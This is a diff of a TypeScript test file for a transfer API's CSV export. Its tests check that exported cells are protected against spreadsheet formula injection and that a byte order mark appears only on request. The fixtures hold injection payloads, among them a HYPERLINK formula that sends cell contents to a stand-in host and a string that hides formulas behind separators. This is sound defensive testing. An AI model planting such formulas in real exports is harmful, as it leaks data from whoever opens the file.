@@ -1,9 +1,12 @@
 import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type Answer, type RunningApi, startApi } from './running-api.ts';
+import { type Answer, adminToken, type RunningApi, startApi } from './running-api.ts';
 import { openTestLedger } from './test-ledger.ts';
 
 const formula = '=HYPERLINK("http://x/?"&A1,"see, here")';
+
+// What opens a cell of its own in some locale: semicolons, tabs, ends of rows, quotes.
+const forged = 'x;=1+1;"=2"\t-3\n+4\r@5, =6|=7';
 
 let api: RunningApi;
 /** Their externalIds, the newest first. */
@@ -13,7 +16,7 @@ beforeAll(async () => {
   api = await startApi(await openTestLedger());
   const wish = { sourceCountry: 'CMR', destinationCountry: 'GAB', amount: 50_000 };
   await create({ ...wish, externalId: formula, description: '+1', metadata: { note: '@x' } });
-  await create({ ...wish, externalId: 'small', amount: 100 });
+  await create({ ...wish, externalId: 'small', amount: 100, description: forged });
   await create({ ...wish, externalId: 'to-senegal', destinationCountry: 'SEN' });
   const { body: held } = await create({ ...wish, externalId: 'held' });
   await create({ ...wish, externalId: 'dear', sourceCountry: 'KEN', destinationCountry: 'UGA', amount: '50000.50' });
@@ -117,6 +120,26 @@ describe('GET /v1/transfers.csv', () => {
     expect(rows.some(({ externalId }) => externalId === `'${formula}`)).toBe(true);
     expect(rows.map(({ description }) => description)).toContain("'+1");
     for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.find(({ externalId }) => externalId === 'small')?.description).toBe(`x;'=1+1;"'=2"\t'-3\n'+4\r'@5, '=6|'=7`);
+  });
+
+  it('has none in any locale: whatever separates cells there, and however quotes are taken', async () => {
+    const { text } = await api.ask('/v1/transfers.csv');
+    for (const cell of text.split(/[,;|\t\r\n]/)) expect(cell.replace(/^["\s]+/, '')).not.toMatch(/^[=+\-@]/);
+  });
+
+  it('begins with a byte order mark only where one is asked for', async () => {
+    const beginning = async (query: string) => {
+      const answer = await fetch(`${api.url}/v1/transfers.csv${query}`, { headers: { authorization: `Bearer ${adminToken}` } });
+      return Buffer.from(await answer.arrayBuffer())
+        .subarray(0, 5)
+        .toString('hex');
+    };
+    const id = Buffer.from('id').toString('hex');
+    expect(await beginning('?bom=true')).toMatch(`efbbbf${id}`);
+    for (const query of ['', '?bom=false']) expect(await beginning(query)).toMatch(new RegExp(`^${id}`));
+    expect(await api.ask('/v1/transfers.csv?bom=1')).toMatchObject({ status: 400, body: { parameter: 'bom' } });
+    expect(await list('bom=true')).toMatchObject({ status: 400, body: { parameter: 'bom' } });
   });
 
   it('refuses a page: it is whole', async () => {
